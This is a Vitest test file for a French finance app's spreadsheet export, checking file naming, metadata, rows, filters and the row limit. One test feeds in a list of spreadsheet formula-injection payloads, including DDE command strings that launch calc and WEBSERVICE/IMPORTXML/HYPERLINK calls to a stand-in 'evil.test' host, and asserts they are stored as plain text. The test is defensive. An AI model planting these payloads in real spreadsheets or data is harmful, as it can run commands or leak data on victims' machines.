import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from '../../demo/server/db/sql.ts';
import { EXPORT_ROWS } from '../../demo/server/finance/export.ts';
import { yearIn } from '../days.ts';
import { startServer, type TestServer } from './_server.ts';
import { readSheet, unzip, type XlsxCell } from './_xlsx.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startServer();
});
afterAll(() => server.stop());

const fetchExport = (query = '') => server.call('responsable', 'GET', `/api/finance/export/${query}`);
const values = (row: (XlsxCell | null)[]) => row.map((cell) => cell?.value ?? null);
/** A spreadsheet's number of a day. */
const serial = (day: string) => Date.parse(day) / 86_400_000 + 25_569;

async function readExport(query = '') {
  const answer = await fetchExport(query);
  expect(answer.statusCode, answer.body.slice(0, 200)).toBe(200);
  return readSheet(answer.rawPayload);
}

/** Texts that spreadsheets would read as formulas, or fail on, unless typed as text. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.test","clic")',
  "=cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://evil.test")',
  '=IMPORTXML("http://evil.test","//a")',
  "=SUM(A1:A9)*cmd|' /C calc'!A0",
  '==1',
  '=\u00a01+1',
  '+1+1',
  '+33 5 55 01 10 10',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@',
  '=',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1',
  '=1+1 ',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1"',
  '";=1+1',
  ',=1+1',
  '|calc',
  '%0A=1+1',
  '{=1+1}',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '&lt;f&gt;',
  '_x003D_1+1',
  '_x000D_',
  'constructor',
  '__proto__',
  'toString',
  '1234,50',
  '2026-03-12',
  '1E5',
  'VRAI',
  '#REF!',
  '\u202e=1+1',
  'Œuvre « été » – 50 € ✓ Łukasz 🛠',
  'a\tb\rc\nd',
];

describe('[J4] the export', () => {
  it('is a spreadsheet named after the day', async () => {
    const answer = await fetchExport();
    const [today] = await server.db.query<{ day: string }>(
      sql`select to_char((now() at time zone 'Europe/Paris')::date, 'DD_MM_YYYY') as day`,
    );
    expect(answer.headers).toMatchObject({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'content-disposition': `attachment; filename="export_finance_${today!.day}.xlsx"`,
      'cache-control': 'no-store',
    });
  });

  it('[K4] has a title and a language', async () => {
    const files = unzip((await fetchExport()).rawPayload);
    const properties = files.get('docProps/core.xml') ?? '';
    expect(properties).toContain('<dc:title>Écritures de finances</dc:title>');
    expect(properties).toContain('<dc:language>fr-FR</dc:language>');
    expect(files.get('_rels/.rels')).toContain('Target="docProps/core.xml"');
    expect(files.get('[Content_Types].xml')).toContain('PartName="/docProps/core.xml"');
  });

  it('has a line for each entry, by date, with real dates and real numbers', async () => {
    const year = yearIn(0);
    const { rows } = await readExport(`?year=${year}&type=Casse`);
    const [titles, ...lines] = rows;
    expect(values(titles!)).toEqual([
      'Date de gestion',
      'Type de dépense',
      'Site',
      'Équipement',
      'Contrat',
      'Prestataire',
      'Prévisionnel',
      'Réalisé',
      'Écart',
    ]);
    const entries = await server.db.query<{
      date_gestion: string;
      previsionnel: string;
      realise: string;
      site: string;
      asset: string;
    }>(
      sql`select e.date_gestion, e.previsionnel, e.realise, a.name as asset,
            concat_ws(', ', s.name, nullif(p.name, s.name), nullif(t.name, p.name)) as site
          from finance_entry e join asset a on a.id = e.asset_id join site s on s.id = e.site_id
          left join site p on p.id = s.parent_id left join site t on t.id = s.top_id
          where e.type_depense = 'Casse' and extract(year from e.date_gestion) = ${year}::int order by e.date_gestion, e.id`,
    );
    expect(lines.map(values)).toEqual(
      entries.map(({ date_gestion, previsionnel, realise, site, asset }) => [
        serial(date_gestion),
        'Casse',
        site,
        asset,
        null,
        null,
        Number(previsionnel),
        Number(realise),
        Math.round((Number(realise) - Number(previsionnel)) * 100) / 100,
      ]),
    );
    expect(lines[0]!.map((cell) => cell?.format)).toEqual([
      'dd/mm/yyyy',
      '@',
      '@',
      '@',
      undefined,
      undefined,
      ...Array(3).fill('#,##0.00\\ "€"'),
    ]);
  });

  it('accepts all parameters', async () => {
    const lines = async (query: string) => (await readExport(query)).rows.length - 1;
    const count = async (condition: ReturnType<typeof sql>) =>
      (
        await server.db.query<{ n: number }>(
          sql`select count(*) as n from finance_entry e where ${condition}`,
        )
      )[0]!.n;
    const year = yearIn(-1);
    expect(await lines('')).toBe(await count(sql`true`));
    expect(await lines(`?year=${year}&month=2`)).toBe(
      await count(sql`to_char(date_gestion, 'YYYY-MM') = ${`${year}-03`}`),
    );
    expect(await lines('?display_contract=false')).toBe(
      await count(sql`contract_id is null and type_depense not like 'Dépense sous contrat%'`),
    );
    expect(await lines('?prestataire=1&type=D%C3%A9pense%20ponctuelle')).toBe(
      await count(sql`prestataire_id = 1 and type_depense = 'Dépense ponctuelle'`),
    );
    const sites = await server.db.query<{ id: number }>(
      sql`select id from site where level = 1 order by id limit 2`,
    );
    const ids = sites.map(({ id }) => id);
    expect(await lines(`?sites=${ids}`)).toBe(
      await count(
        sql`exists (select from site s where s.id = e.site_id and coalesce(s.top_id, s.id) = any(${ids}::int[]))`,
      ),
    );
    expect(await lines('?year=1999')).toBe(0);
  });

  it(`trust B14: none of ${HOSTILE.length} hostile texts is a formula, and each comes back as it was`, async () => {
    for (const [index, text] of HOSTILE.entries()) {
      await server.db.query(
        sql`with a as (insert into asset (name) values (${text}) returning id),
              c as (insert into contract (name) values (${text}) returning id)
            insert into finance_entry (date_gestion, type_depense, realise, asset_id, contract_id)
            select make_date(2040, 1, 1) + ${index}::int, 'Casse', 12.5, a.id, c.id from a, c`,
      );
    }
    const { rows, sheet } = await readExport('?year=2040');
    const lines = rows.slice(1);
    expect(lines.map((line) => line[3]?.value)).toEqual(HOSTILE);
    expect(lines.map((line) => line[4]?.value)).toEqual(HOSTILE);
    expect(lines.every((line) => line[3]?.quoted && line[3].format === '@' && line[4]?.quoted)).toBe(true);
    expect(lines.every((line) => line[7]?.value === 12.5 && !line[7].quoted)).toBe(true);
    expect(sheet).not.toContain('<f');
  });
});

describe('[J4] a large export', () => {
  it(`of more than ${EXPORT_ROWS} lines is refused with what to do`, { timeout: 120_000 }, async () => {
    await server.db.query(
      sql`insert into finance_entry (date_gestion, type_depense) select '2046-01-01', 'Casse' from generate_series(0, ${EXPORT_ROWS}::int)`,
    );
    const answer = await fetchExport('?year=2046');
    expect([answer.statusCode, answer.json()]).toEqual([
      400,
      { detail: expect.stringMatching(/^L’export est limité à 100\s000\s/) },
    ]);
  });
});
